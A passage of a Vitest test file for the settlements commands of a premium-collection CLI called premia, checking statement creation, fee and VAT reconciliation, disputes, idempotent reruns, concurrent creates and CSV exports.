import { spawn } from 'node:child_process';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import fc from 'fast-check';
import { afterEach, describe, expect, it } from 'vitest';
import { openLocalBackend } from '../../src/backend/local/index.js';
import type { LocalBackend } from '../../src/backend/local/index.js';
import type { Download } from '../../src/backend/types.js';
import { settlementFigures } from '../../src/domain/fees.js';
import { asCents, centsFromJsonNumber } from '../../src/domain/money.js';
import { PAGE_ROWS } from '../../src/store/repos/collection-reports.js';
import { REPO, runCli, tempDir } from '../helpers/cli.js';
import {
  dbPath,
  FIXTURE_PERIOD,
  openTestBackend,
  randomCollections,
  seedCollections,
  seedFixturePeriod,
  setClock,
  TEST_NOW,
} from '../helpers/seed-collections.js';

const EXPORT_HEADER = 'settlement_number,period_month,total_collections,distribution_fee,collections_fee,total_fees,vat,net_amount,payment_date,payment_reference\n';
const LINES_HEADER =
  'settlement_number,policy_number,customer_id,external_customer_ref,product_code,collection_amount_collected,distribution_fee,collections_fee,total_fees,vat,net_amount\n';
/** Seed 1, local client, first statement of 2026-11. */
const REF_001 = 'PRM2611001-28KTXAGP';

const cleanups: Array<() => void> = [];
afterEach(() => {
  while (cleanups.length > 0) cleanups.pop()!();
});

/** A new store holding the fixture period, with the clock at `clock`. */
async function fixtureStore(clock: string, seed = 1): Promise<{ dir: string; db: string; cli: (args: string[]) => ReturnType<typeof runCli> }> {
  const { dir, cleanup } = tempDir();
  cleanups.push(cleanup);
  const db = dbPath(dir);
  const backend = await openTestBackend(db, seed);
  await seedFixturePeriod(backend.store);
  await setClock(backend.store, clock);
  await backend.close();
  return { dir, db, cli: (args) => runCli(['--db', db, ...args], { cwd: dir }) };
}

/** A new store holding November's collections `rows`, with the clock at 2026-12-02 (the statement can be made). */
async function seededStore(rows: Parameters<typeof seedCollections>[2]): Promise<{ dir: string; db: string }> {
  const { dir, cleanup } = tempDir();
  cleanups.push(cleanup);
  const db = dbPath(dir);
  const backend = await openTestBackend(db);
  await seedCollections(backend.store, '2026-11', rows);
  await setClock(backend.store, '2026-12-02');
  await backend.close();
  return { dir, db };
}

async function withBackend<T>(db: string, fn: (b: LocalBackend) => Promise<T>): Promise<T> {
  const backend = await openTestBackend(db);
  try {
    return await fn(backend);
  } finally {
    await backend.close();
  }
}

async function text(d: Download): Promise<string> {
  let s = '';
  for await (const chunk of d.body) s += typeof chunk === 'string' ? chunk : Buffer.from(chunk).toString('utf8');
  return s;
}

/** The notices of a command that waited for another process's write lock, each time it waited long. */
const WAITED_LINES = /^(?:Waiting for another premia process to finish writing to the store; nothing has changed yet\.\n)+/;

/** stderr of a `--json` failure: the API error body. */
function errorBody(stderr: string): { code: string; message: string; details?: Array<Record<string, unknown>> } {
  return JSON.parse(stderr).error;
}

describe('premia settlements create', () => {
  it('is refused while the period is open (PERIOD_OPEN, exit 6)', async () => {
    const { cli } = await fixtureStore('2026-11-29');
    const r = await cli(['--json', 'settlements', 'create', '--period', FIXTURE_PERIOD]);
    expect(r.code).toBe(6);
    expect(r.stdout).toBe('');
    const error = errorBody(r.stderr);
    expect(error.code).toBe('PERIOD_OPEN');
    expect(error.message).toBe(
      'Period 2026-11 is still open: its last day 2026-11-30 has not run (the clock is at 2026-11-29). Create the settlement once the clock has reached 2026-11-30.',
    );
    expect(error.details).toEqual([{ period_month: '2026-11', closes_on: '2026-11-30', today: '2026-11-29' }]);
  });

  it('generates the statement once the last day has run, with figures that reconcile', async () => {
    const { cli } = await fixtureStore('2026-11-30');
    const r = await cli(['--json', 'settlements', 'create', '--period', FIXTURE_PERIOD]);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const s = r.json();
    expect(s.id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-8[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
    const { id: _id, ...rest } = s;
    expect(rest).toEqual({
      settlement_number: 'SETTLE-2026-11-001',
      period_month: '2026-11',
      total_collections: 199.51,
      distribution_fee: 49.88,
      collections_fee: 6.98,
      total_fees: 56.86,
      vat: 8.53,
      net_amount: 134.12,
      payment_date: '2026-12-03',
      status: 'pending',
      payment_reference: REF_001,
      created_at: '2026-11-30T09:30:00.000Z',
      collections_count: 5,
      paid_on: null,
      paid_reference: null,
      disputed_on: null,
      dispute_reason: null,
      previously_paid: 0,
      supersedes: null,
      superseded_by: null,
    });
    // money as numbers with two decimals on the wire
    expect(r.stdout).toContain(
      '"total_collections":199.51,"distribution_fee":49.88,"collections_fee":6.98,"total_fees":56.86,"vat":8.53,"net_amount":134.12,',
    );
    // the statement reconciles with the report's collected total, to the cent
    const report = await cli(['reports', 'collections', '--period', FIXTURE_PERIOD, '--format', 'json']);
    const collected = report.json().results.reduce((a: number, x: { collection_amount_collected: number }) => a + centsFromJsonNumber(x.collection_amount_collected, 'c'), 0);
    expect(collected).toBe(19951);
    expect(centsFromJsonNumber(s.net_amount, 'n') + centsFromJsonNumber(s.total_fees, 'f') + centsFromJsonNumber(s.vat, 'v')).toBe(collected);
  });

  it('prints a statement for people, and a status line on stderr', async () => {
    const { cli } = await fixtureStore('2026-12-02');
    const r = await cli(['settlements', 'create', '--period', FIXTURE_PERIOD]);
    expect(r.code).toBe(0);
    expect(r.stderr).toBe(`Created SETTLE-2026-11-001: net 134.12 to pay by 2026-12-03 with reference ${REF_001}.\n`);
    const lines = r.stdout.split('\n');
    expect(lines).toContain('total_collections  199.51');
    expect(lines).toContain('distribution_fee    49.88');
    expect(lines).toContain('net_amount         134.12');
    expect(lines).toContain(`payment_reference  ${REF_001}`);
    expect(lines).toContain('status             pending');
  });

  it('a first statement made after its payment date keeps it, and the status line says it is already past', async () => {
    const { cli } = await fixtureStore('2027-01-10');
    const r = await cli(['settlements', 'create', '--period', FIXTURE_PERIOD]);
    expect(r.code).toBe(0);
    expect(r.stderr).toBe(
      `Created SETTLE-2026-11-001: net 134.12 to pay by 2026-12-03 (already past: the statement was made on 2027-01-10; it is due now) with reference ${REF_001}.\n`,
    );
    expect(r.stdout.split('\n')).toContain('payment_date       2026-12-03');
  });

  it('a period never executed is NO_COLLECTIONS (exit 6)', async () => {
    const { cli } = await fixtureStore('2026-12-02');
    const r = await cli(['settlements', 'create', '--period', '2026-08']);
    expect(r.code).toBe(6);
    expect(r.stderr).toContain("Period 2026-08 has no collections: it was never executed, so there is nothing to settle (a period's collections can only be queued before its last day, 2026-08-31, has run).");
    expect(r.stderr).toContain('code NO_COLLECTIONS');
  });

  // The run was made (execution recorded) but had nothing to queue: "it was never executed" sent the
  // operator looking for a run that is there.
  it('a period whose run queued nothing is NO_COLLECTIONS, saying that it ran (exit 6)', async () => {
    const { dir, cleanup } = tempDir();
    cleanups.push(cleanup);
    const cli = (args: string[]) => runCli(['--db', dbPath(dir), '--yes', ...args], { cwd: dir });
    for (const args of [
      ['clock', 'set', '2026-10-31'],
      ['policies', 'create', '--policy-number', 'P1', '--customer-id', 'C1', '--external-ref', 'E1', '--product-code', 'LIFE', '--amount', '100.00'],
      ['policies', 'update', 'P1', '--status', 'cancelled'],
      ['collections', 'execute', '--period', '2026-11'],
      ['clock', 'advance', '--to', '2026-12-02'],
    ]) {
      expect((await cli(args)).code, args.join(' ')).toBe(0);
    }
    const r = await cli(['--json', 'settlements', 'create', '--period', '2026-11']);
    expect(r.code).toBe(6);
    expect(JSON.parse(r.stderr).error).toMatchObject({
      code: 'NO_COLLECTIONS',
      message:
        'Period 2026-11 has no collections: it was executed, but its run queued none (no policy was active to queue), so there is nothing to settle ' +
        "(a period's collections can only be queued before its last day, 2026-11-30, has run).",
    });
  });

  it('a malformed period is a usage error (exit 2)', async () => {
    const { cli } = await fixtureStore('2026-12-02');
    const r = await cli(['settlements', 'create', '--period', '2026-1']);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("--period '2026-1' is not a period");
    await withBackend((await fixtureStore('2026-12-02')).db, async (b) => {
      await expect(b.createSettlement('26-11')).rejects.toMatchObject({ code: 'VALIDATION_ERROR' });
    });
  });

  it('a second create while one is live is SETTLEMENT_EXISTS naming the first id and number', async () => {
    const { cli } = await fixtureStore('2026-12-02');
    const first = (await cli(['--json', 'settlements', 'create', '--period', FIXTURE_PERIOD])).json();
    const again = await cli(['--json', 'settlements', 'create', '--period', FIXTURE_PERIOD]);
    expect(again.code).toBe(6);
    expect(again.stdout).toBe('');
    const error = errorBody(again.stderr);
    expect(error.code).toBe('SETTLEMENT_EXISTS');
    expect(error.message).toContain(`already has settlement SETTLE-2026-11-001 (id ${first.id}, pending)`);
    expect(error.details).toEqual([{ id: first.id, settlement_number: 'SETTLE-2026-11-001', status: 'pending', period_month: '2026-11' }]);
    // also once it is paid
    expect((await cli(['settlements', 'mark-paid', first.id])).code).toBe(0);
    const paid = await cli(['settlements', 'create', '--period', FIXTURE_PERIOD]);
    expect(paid.code).toBe(6);
    expect(paid.stderr).toContain(`(id ${first.id}, paid)`);
    expect(paid.stderr).toContain('code SETTLEMENT_EXISTS');
    const list = (await cli(['--json', 'settlements', 'list'])).json();
    expect(list.data).toHaveLength(1);
  });

  it('a rerun with the same --idempotency-key after the statement was paid or disputed never says it is to pay', async () => {
    const { cli } = await fixtureStore('2026-12-02');
    const create = ['--idempotency-key', 'settle-2026-11', 'settlements', 'create', '--period', FIXTURE_PERIOD];
    const made = await cli(create);
    expect(made.code).toBe(0);
    expect(made.stderr).toBe(`Created SETTLE-2026-11-001: net 134.12 to pay by 2026-12-03 with reference ${REF_001}.\n`);
    expect((await cli(['settlements', 'mark-paid', 'SETTLE-2026-11-001', '--reference', 'EFT-77'])).code).toBe(0);

    // The stored answer (pending) is repeated; what the statement is now is said, and shown.
    const paidNote =
      "warning: SETTLE-2026-11-001 was made by an earlier run with idempotency key 'settle-2026-11' (that run's answer is repeated), " +
      'and it has been paid since (on 2026-12-02 with reference EFT-77): it is not to be paid again.\n';
    const rerun = await cli(create);
    expect(rerun.code).toBe(0);
    expect(rerun.stderr).toBe(paidNote);
    const lines = rerun.stdout.split('\n');
    expect(lines).toContain('status             paid');
    expect(lines).toContain('net_amount         134.12');
    expect(lines).toContain('paid_reference     EFT-77');
    // --json keeps the stored body byte for byte (status pending), with the same warning on stderr.
    const json = await cli(['--json', ...create]);
    expect(json.code).toBe(0);
    expect(json.json()).toMatchObject({ settlement_number: 'SETTLE-2026-11-001', status: 'pending', net_amount: 134.12 });
    expect(json.stderr).toBe(paidNote);

    // Disputed and replaced: the rerun names the statement that replaced it.
    expect((await cli(['settlements', 'dispute', 'SETTLE-2026-11-001', '--reason', 'Fee looks wrong'])).code).toBe(0);
    expect((await cli(['settlements', 'create', '--period', FIXTURE_PERIOD])).code).toBe(0);
    const replaced = await cli(create);
    expect(replaced.code).toBe(0);
    expect(replaced.stderr).toBe(
      "warning: SETTLE-2026-11-001 was made by an earlier run with idempotency key 'settle-2026-11' (that run's answer is repeated), " +
        'and it has been disputed since (on 2026-12-02): it can no longer be paid; SETTLE-2026-11-002 replaced it.\n',
    );
    expect(replaced.stdout.split('\n')).toContain('status             disputed');
  });

  it('after a dispute the period is regenerated as NNN 002 and the old statement stays', async () => {
    const { cli } = await fixtureStore('2026-12-02');
    const first = (await cli(['--json', 'settlements', 'create', '--period', FIXTURE_PERIOD])).json();
    expect((await cli(['settlements', 'dispute', 'SETTLE-2026-11-001', '--reason', 'Fee on POL-0002 looks wrong'])).code).toBe(0);
    const second = await cli(['--json', 'settlements', 'create', '--period', FIXTURE_PERIOD]);
    expect(second.code).toBe(0);
    const s2 = second.json();
    expect(s2.settlement_number).toBe('SETTLE-2026-11-002');
    expect(s2.payment_reference).toBe('PRM2611002-FEPF9Z3H');
    expect(s2.status).toBe('pending');
    expect(s2.id).not.toBe(first.id);
    expect(s2.net_amount).toBe(134.12);
    // regenerated on the 2nd: due on the 3rd, as a new statement would be
    expect(s2.payment_date).toBe('2026-12-03');
    const old = (await cli(['--json', 'settlements', 'get', first.id])).json();
    expect(old).toMatchObject({ settlement_number: 'SETTLE-2026-11-001', status: 'disputed', disputed_on: '2026-12-02', dispute_reason: 'Fee on POL-0002 looks wrong' });
    const list = (await cli(['--json', 'settlements', 'list'])).json();
    expect(list.data.map((s: { settlement_number: string }) => s.settlement_number)).toEqual(['SETTLE-2026-11-002', 'SETTLE-2026-11-001']);
    expect(list.next_after).toBeNull();
    const disputed = (await cli(['--json', 'settlements', 'list', '--status', 'disputed'])).json();
    expect(disputed.data.map((s: { id: string }) => s.id)).toEqual([first.id]);
  });

  it('a statement regenerated late gets a fresh payment date, so it is not overdue at birth and keeps its dispute window', async () => {
    const { db, cli } = await fixtureStore('2026-12-02');
    const first = (await cli(['--json', 'settlements', 'create', '--period', FIXTURE_PERIOD])).json();
    expect(first.payment_date).toBe('2026-12-03');
    // the last day of -001's window: payment date + 30
    await withBackend(db, (b) => setClock(b.store, '2027-01-02'));
    expect((await cli(['settlements', 'dispute', 'SETTLE-2026-11-001', '--reason', 'Wrong fees'])).code).toBe(0);
    const s2 = (await cli(['--json', 'settlements', 'create', '--period', FIXTURE_PERIOD])).json();
    expect(s2).toMatchObject({ settlement_number: 'SETTLE-2026-11-002', payment_date: '2027-01-03', status: 'pending' });
    expect((await cli(['--json', 'settlements', 'get', 'SETTLE-2026-11-001'])).json().payment_date).toBe('2026-12-03');
    // its own window runs to 2027-02-02, not the old statement's 2027-01-02
    await withBackend(db, (b) => setClock(b.store, '2027-02-02'));
    const d2 = await cli(['--json', 'settlements', 'dispute', 'SETTLE-2026-11-002', '--reason', 'Still wrong']);
    expect(d2.code).toBe(0);
    // regenerated on the 3rd or later: the 3rd of the next month
    await withBackend(db, (b) => setClock(b.store, '2027-02-05'));
    const s3 = (await cli(['--json', 'settlements', 'create', '--period', FIXTURE_PERIOD])).json();
    expect(s3).toMatchObject({ settlement_number: 'SETTLE-2026-11-003', payment_date: '2027-03-03' });
  });

  it('the same seed and data give the same statement; another seed another reference', async () => {
    const a = (await (await fixtureStore('2026-12-02', 5)).cli(['--json', 'settlements', 'create', '--period', FIXTURE_PERIOD])).stdout;
    const b = (await (await fixtureStore('2026-12-02', 5)).cli(['--json', 'settlements', 'create', '--period', FIXTURE_PERIOD])).stdout;
    expect(a).toBe(b);
    const other = JSON.parse((await (await fixtureStore('2026-12-02', 6)).cli(['--json', 'settlements', 'create', '--period', FIXTURE_PERIOD])).stdout);
    expect(other.payment_reference).not.toBe(JSON.parse(a).payment_reference);
    expect(other.payment_reference).toMatch(/^PRM2611001-[0-9A-HJKMNP-TV-Z]{8}$/);
  });

  it('each client has its own statements and numbers; references stay unique', async () => {
    const { db } = await fixtureStore('2026-12-02');
    await withBackend(db, async (b) => {
      const mine = await b.createSettlement(FIXTURE_PERIOD);
      const theirs = await b.forClient(2).createSettlement(FIXTURE_PERIOD);
      expect(theirs.settlement_number).toBe('SETTLE-2026-11-001');
      expect(theirs.total_collections).toBe(777);
      expect(theirs.payment_reference).toBe('PRM2611001-8AXE21JX');
      expect(theirs.payment_reference).not.toBe(mine.payment_reference);
      await expect(b.forClient(2).getSettlement(mine.id)).rejects.toMatchObject({ code: 'NOT_FOUND' });
      expect((await b.listSettlements({})).data.map((s) => s.id)).toEqual([mine.id]);
    });
  });

  it('settles a period where nothing was collected at zero', async () => {
    const { db, cli } = await fixtureStore('2026-12-02');
    await withBackend(db, (b) => seedCollections(b.store, '2026-07', [{ policy_number: 'POL-0001', due: 14950, collected: 0 }]).then(() => undefined));
    const r = await cli(['--json', 'settlements', 'create', '--period', '2026-07']);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('"total_collections":0.00,"distribution_fee":0.00,"collections_fee":0.00,"total_fees":0.00,"vat":0.00,"net_amount":0.00,');
    const lines = await cli(['settlements', 'export', 'SETTLE-2026-07-001', '--lines']);
    expect(lines.stdout).toBe(`${LINES_HEADER}SETTLE-2026-07-001,POL-0001,C-POL-0001,EXT-POL-0001,FUNERAL_BASIC,0.00,0.00,0.00,0.00,0.00,0.00\n`);
  });
});

describe('two live statements can never exist', () => {
  it('the partial unique index refuses a second live row even past the check', async () => {
    const { db } = await fixtureStore('2026-12-02');
    await withBackend(db, async (b) => {
      await b.createSettlement(FIXTURE_PERIOD);
      const row = await b.store.db.selectFrom('settlements').selectAll().executeTakeFirstOrThrow();
      const { id: _id, ...copy } = row;
      await expect(
        b.store.db.insertInto('settlements').values({ ...copy, seq: 2, settlement_number: 'SETTLE-2026-11-002', payment_reference: 'PRM2611002-X' }).execute(),
      ).rejects.toThrow(/UNIQUE constraint failed: settlements\.client_id, settlements\.period_month/);
      // a disputed one beside a live one is fine
      await b.store.db
        .insertInto('settlements')
        .values({ ...copy, seq: 2, settlement_number: 'SETTLE-2026-11-002', payment_reference: 'PRM2611002-X', status: 'disputed' })
        .execute();
    });
  });

  it('concurrent creates from separate processes give exactly one statement', async () => {
    const { dir, db } = await fixtureStore('2026-12-02');
    const bin = join(REPO, 'bin', 'premia.js');
    const run = () =>
      new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve, reject) => {
        const child = spawn(process.execPath, [bin, '--db', db, '--json', 'settlements', 'create', '--period', FIXTURE_PERIOD], {
          cwd: dir,
          env: { ...process.env, NO_COLOR: '1' },
        });
        let stdout = '';
        let stderr = '';
        child.stdout.on('data', (c) => (stdout += c));
        child.stderr.on('data', (c) => (stderr += c));
        child.on('error', reject);
        child.on('close', (code) => resolve({ code, stdout, stderr }));
      });
    const results = await Promise.all([run(), run(), run(), run()]);
    const ok = results.filter((r) => r.code === 0);
    expect(ok).toHaveLength(1);
    const created = JSON.parse(ok[0]!.stdout);
    for (const r of results.filter((x) => x.code !== 0)) {
      expect(r.code).toBe(6);
      // A process that waited over half a second for another's write lock said so first: which of
      // them waits that long depends on how busy the machine is. Nothing else comes before the error.
      expect(errorBody(r.stderr.replace(WAITED_LINES, ''))).toMatchObject({ code: 'SETTLEMENT_EXISTS', details: [{ id: created.id, settlement_number: 'SETTLE-2026-11-001' }] });
    }
    await withBackend(db, async (b) => expect((await b.listSettlements({})).data).toHaveLength(1));
  });
});

describe('premia settlements get / list', () => {
  // `settlements export 2026-11` (or SETTLE-2026-11-1) said only "not found. Check the id or
  // number", leaving the operator to guess the number's form.
  it('a period, or a number mistyped around one, is NOT_FOUND naming the period\'s statements', async () => {
    const { cli } = await fixtureStore('2026-12-02');
    const none = await cli(['settlements', 'export', '2026-11']);
    expect([none.code, none.stdout, none.stderr]).toEqual([
      5,
      '',
      "error: Settlement '2026-11' was not found: a settlement number is written SETTLE-YYYY-MM-NNN; 2026-11 has no statement.\n  (code NOT_FOUND)\n",
    ]);
    expect((await cli(['settlements', 'create', '--period', FIXTURE_PERIOD])).code).toBe(0);
    for (const ref of ['2026-11', 'SETTLE-2026-11-1', 'settle-2026-11']) {
      const r = await cli(['settlements', 'export', ref]);
      expect([r.code, r.stdout, r.stderr]).toEqual([
        5,
        '',
        `error: Settlement '${ref}' was not found: a settlement number is written SETTLE-YYYY-MM-NNN; 2026-11's statement is SETTLE-2026-11-001 (pending); give its number or id.\n  (code NOT_FOUND)\n`,
      ]);
    }
    const wellFormed = await cli(['settlements', 'get', 'SETTLE-2026-11-009']);
    expect(wellFormed.stderr).toBe("error: Settlement 'SETTLE-2026-11-009' was not found. Check the id or number and try again.\n  (code NOT_FOUND)\n");
  });

  it('finds a statement by id or by settlement number; unknown refs are NOT_FOUND (exit 5)', async () => {
    const { cli } = await fixtureStore('2026-12-02');
    const created = await cli(['--json', 'settlements', 'create', '--period', FIXTURE_PERIOD]);
    const byId = await cli(['--json', 'settlements', 'get', created.json().id]);
    const byNumber = await cli(['--json', 'settlements', 'get', 'SETTLE-2026-11-001']);
    expect(byId.code).toBe(0);
    expect(byId.stdout).toBe(created.stdout);
    expect(byNumber.stdout).toBe(created.stdout);
    for (const ref of ['SETTLE-2026-11-009', '00000000-0000-8000-8000-000000000000', 'nonsense']) {
      const r = await cli(['settlements', 'get', ref]);
      expect(r.code).toBe(5);
      expect(r.stderr).toContain(`Settlement '${ref}' was not found.`);
    }
  });

  it('lists newest first, filters by status and period, and shows a table', async () => {
    const { db, cli } = await fixtureStore('2026-12-02');
    await withBackend(db, async (b) => {
      await b.createSettlement('2026-10');
      await b.createSettlement('2026-11');
    });
    const table = await cli(['settlements', 'list']);
    expect(table.code).toBe(0);
    const rows = table.stdout.trimEnd().split('\n');
    expect(rows[0]).toMatch(/^settlement_number\s+status\s+total_collections\s+previously_paid\s+net_amount\s+payment_date\s+payment_reference\s+paid_on\s+superseded_by\s+id$/);
    expect(rows[1]).toMatch(/^SETTLE-2026-11-001\s+pending\s+199\.51\s+0\.00\s+134\.12\s+2026-12-03\s+PRM2611001-28KTXAGP\s+-\s+-\s/);
    expect(rows[2]).toMatch(/^SETTLE-2026-10-001\s+pending\s+149\.50\s+0\.00\s+100\.50\s+2026-11-03\s+PRM2610001-/);
    const october = (await cli(['--json', 'settlements', 'list', '--period', '2026-10'])).json();
    expect(october.data.map((s: { settlement_number: string }) => s.settlement_number)).toEqual(['SETTLE-2026-10-001']);
    expect((await cli(['--json', 'settlements', 'list', '--status', 'paid'])).json()).toEqual({ data: [], next_after: null });
    expect((await cli(['settlements', 'list', '--status', 'open'])).code).toBe(2);
  });
});

describe('premia settlements export', () => {
  it('writes the one-row statement CSV (10 columns) by id or number', async () => {
    const { cli } = await fixtureStore('2026-12-02');
    const id = (await cli(['--json', 'settlements', 'create', '--period', FIXTURE_PERIOD])).json().id;
    const expected = `${EXPORT_HEADER}SETTLE-2026-11-001,2026-11,199.51,49.88,6.98,56.86,8.53,134.12,2026-12-03,${REF_001}\n`;
    const r = await cli(['settlements', 'export', id]);
    expect(r.code).toBe(0);
    expect(r.stderr).toBe('');
    expect(r.stdout).toBe(expected);
    expect((await cli(['settlements', 'export', 'SETTLE-2026-11-001'])).stdout).toBe(expected);
    const file = await cli(['settlements', 'export', id, '--output', '.']);
    expect(file.code).toBe(0);
    expect(file.stderr).toContain('Wrote SETTLE-2026-11-001.csv to ');
  });

  it('--json: USAGE_ERROR, exit 2, nothing written: the export is CSV only, so there is no JSON body to print', async () => {
    const { dir, cli } = await fixtureStore('2026-12-02');
    await cli(['settlements', 'create', '--period', FIXTURE_PERIOD]);
    const before = readdirSync(dir).sort();
    for (const args of [['--json', 'settlements', 'export', 'SETTLE-2026-11-001'], ['settlements', 'export', 'SETTLE-2026-11-001', '--lines', '--output', 'x.csv', '--json']]) {
      const r = await cli(args);
      expect([r.code, r.stdout]).toEqual([2, '']);
      expect(JSON.parse(r.stderr)).toEqual({
        error: {
          code: 'USAGE_ERROR',
          message:
            'The settlement export is CSV only (the API gives no JSON of it), so --json does not apply; leave it out (the settlement as JSON: premia settlements get SETTLE-2026-11-001 --json).',
          request_id: null,
        },
      });
    }
    expect(readdirSync(dir).sort()).toEqual(before);
  });

  it('says on stderr when the statement exported is paid, disputed or replaced (the CSV has no status column); the bytes stay the same', async () => {
    const { cli } = await fixtureStore('2026-12-02');
    const s1 = (await cli(['--json', 'settlements', 'create', '--period', FIXTURE_PERIOD])).json();
    const row1 = `SETTLE-2026-11-001,2026-11,199.51,49.88,6.98,56.86,8.53,134.12,2026-12-03,${REF_001}\n`;
    expect((await cli(['settlements', 'mark-paid', 'SETTLE-2026-11-001', '--reference', 'EFT-77'])).code).toBe(0);
    const paid = await cli(['settlements', 'export', 'SETTLE-2026-11-001']);
    expect([paid.code, paid.stdout]).toEqual([0, EXPORT_HEADER + row1]);
    expect(paid.stderr).toBe('warning: SETTLE-2026-11-001 was paid on 2026-12-02 with reference EFT-77: this export is a record of it, not to be paid again.\n');
    expect((await cli(['settlements', 'dispute', s1.id, '--reason', 'short'])).code).toBe(0);
    const disputed = await cli(['settlements', 'export', s1.id]);
    expect([disputed.code, disputed.stdout]).toEqual([0, EXPORT_HEADER + row1]);
    expect(disputed.stderr).toBe(
      "warning: SETTLE-2026-11-001 is disputed (since 2026-12-02; paid on 2026-12-02): this export is a record of it, not to be paid; 'premia settlements create --period 2026-11' makes a new statement.\n",
    );
    expect((await cli(['settlements', 'create', '--period', FIXTURE_PERIOD])).code).toBe(0);
    const replaced = await cli(['settlements', 'export', 'SETTLE-2026-11-001', '--output', 'old.csv']);
    expect(replaced.code).toBe(0);
    expect(replaced.stderr).toMatch(
      /^Wrote SETTLE-2026-11-001\.csv as .*old\.csv \(\d+ bytes\)\.\nwarning: SETTLE-2026-11-001 is disputed \(since 2026-12-02; paid on 2026-12-02\): this export is a record of it, not to be paid; SETTLE-2026-11-002 replaced it \(export that one for what is due\)\.\n$/,
    );
    // What is due now: pending, no warning; the lines are a reconciliation, never a payment run's input.
    expect((await cli(['settlements', 'export', 'SETTLE-2026-11-002'])).stderr).toBe('');
    expect((await cli(['settlements', 'export', 'SETTLE-2026-11-001', '--lines'])).stderr).toBe('');
  });

  it('--require-pending (a payment run run again): a paid or disputed statement is exit 6 and nothing is written; a pending one is written', async () => {
    const { dir, cli } = await fixtureStore('2026-12-02');
    await cli(['settlements', 'create', '--period', FIXTURE_PERIOD]);
    const row1 = `SETTLE-2026-11-001,2026-11,199.51,49.88,6.98,56.86,8.53,134.12,2026-12-03,${REF_001}\n`;
    const pending = await cli(['settlements', 'export', 'SETTLE-2026-11-001', '--require-pending']);
    expect([pending.code, pending.stdout, pending.stderr]).toEqual([0, EXPORT_HEADER + row1, '']);
    expect((await cli(['settlements', 'mark-paid', 'SETTLE-2026-11-001', '--reference', 'EFT-77'])).code).toBe(0);
    const paid = await cli(['settlements', 'export', 'SETTLE-2026-11-001', '--require-pending', '--output', 'pay.csv']);
    expect([paid.code, paid.stdout, paid.stderr]).toEqual([
      6,
      '',
      'error: SETTLE-2026-11-001 was paid on 2026-12-02 with reference EFT-77. --require-pending writes the export only while the statement is pending; nothing was written.\n  (code CONFLICT)\n',
    ]);
    expect(existsSync(join(dir, 'pay.csv'))).toBe(false);
    expect((await cli(['settlements', 'dispute', 'SETTLE-2026-11-001', '--reason', 'short'])).code).toBe(0);
    expect((await cli(['settlements', 'create', '--period', FIXTURE_PERIOD])).code).toBe(0);
    const disputed = await cli(['settlements', 'export', 'SETTLE-2026-11-001', '--lines', '--require-pending']);
    expect([disputed.code, disputed.stdout, disputed.stderr]).toEqual([
      6,
      '',
      'error: SETTLE-2026-11-001 is disputed (since 2026-12-02; paid on 2026-12-02); SETTLE-2026-11-002 replaced it (export that one for what is due). ' +
        '--require-pending writes the export only while the statement is pending; nothing was written.\n  (code CONFLICT)\n',
    ]);
    expect((await cli(['settlements', 'export', 'SETTLE-2026-11-002', '--require-pending'])).code).toBe(0);
    // A number no statement has is NOT_FOUND (exit 5), as without the flag: not "status unknown".
    for (const ref of ['SETTLE-2026-11-009', '2026-11']) {
      const plain = await cli(['settlements', 'export', ref]);
      const guarded = await cli(['settlements', 'export', ref, '--require-pending', '--output', 'pay.csv']);
      expect([guarded.code, guarded.stdout, guarded.stderr]).toEqual([5, '', plain.stderr]);
      expect(plain.code).toBe(5);
    }
    expect(existsSync(join(dir, 'pay.csv'))).toBe(false);
  });

  it('--lines: one row per collection in policy_number order, each fee split so columns sum to the statement', async () => {
    const { dir, cli } = await fixtureStore('2026-12-02');
    await cli(['settlements', 'create', '--period', FIXTURE_PERIOD]);
    const r = await cli(['settlements', 'export', 'SETTLE-2026-11-001', '--lines']);
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(
      LINES_HEADER +
        'SETTLE-2026-11-001,POL-0001,C100001,EXT-1,FUNERAL_BASIC,149.50,37.38,5.23,42.61,6.39,100.50\n' +
        'SETTLE-2026-11-001,POL-0002,C100002,"ACME, ""Gold"" ref",LIFE_PLUS,50.00,12.50,1.75,14.25,2.14,33.61\n' +
        'SETTLE-2026-11-001,POL-0003,C100003,EXT-3,FUNERAL_BASIC,0.00,0.00,0.00,0.00,0.00,0.00\n' +
        'SETTLE-2026-11-001,POL-0004,C100004,EXT-4,FUNERAL_BASIC,0.00,0.00,0.00,0.00,0.00,0.00\n' +
        'SETTLE-2026-11-001,POL-0010,C100010,EXT-10,MICRO,0.01,0.00,0.00,0.00,0.00,0.01\n',
    );
    // and the sums: 199.51 = 49.88 + 6.98 + 8.53 + 134.12
    expect(sumLines(r.stdout)).toEqual({ collected: 19951, distribution_fee: 4988, collections_fee: 698, total_fees: 5686, vat: 853, net_amount: 13412, rows: 5 });
    const file = await cli(['settlements', 'export', 'SETTLE-2026-11-001', '--lines', '-o', 'lines.csv']);
    expect(file.code).toBe(0);
    expect(readFileSync(join(dir, 'lines.csv'), 'utf8')).toBe(r.stdout);
  });

  it('--lines refuses to write lines that no longer add up to the statement (and leaves no file)', async () => {
    const { dir, db, cli } = await fixtureStore('2026-12-02');
    await cli(['settlements', 'create', '--period', FIXTURE_PERIOD]);
    await withBackend(db, (b) =>
      b.store.db.updateTable('collections').set({ amount_collected: asCents(1) }).where('policy_number', '=', 'POL-0003').where('client_id', '=', 1).execute().then(() => undefined),
    );
    const before = readdirSync(dir).sort();
    const r = await cli(['settlements', 'export', 'SETTLE-2026-11-001', '--lines', '--output', 'lines.csv']);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('The collections of 2026-11 no longer add up to settlement SETTLE-2026-11-001');
    expect(readdirSync(dir).sort()).toEqual(before);
  });

  it('--lines over several pages of a file store sums to the statement', async () => {
    const { dir, cleanup } = tempDir();
    cleanups.push(cleanup);
    const rows = randomCollections(77, PAGE_ROWS * 2 + 5);
    await withBackend(dbPath(dir), async (b) => {
      await seedCollections(b.store, '2026-11', rows);
      await setClock(b.store, '2026-12-02');
      const s = await b.createSettlement('2026-11');
      const csv = await text(await b.exportSettlement(s.id, { lines: true }));
      expect(sumLines(csv)).toEqual({
        collected: s.total_collections,
        distribution_fee: s.distribution_fee,
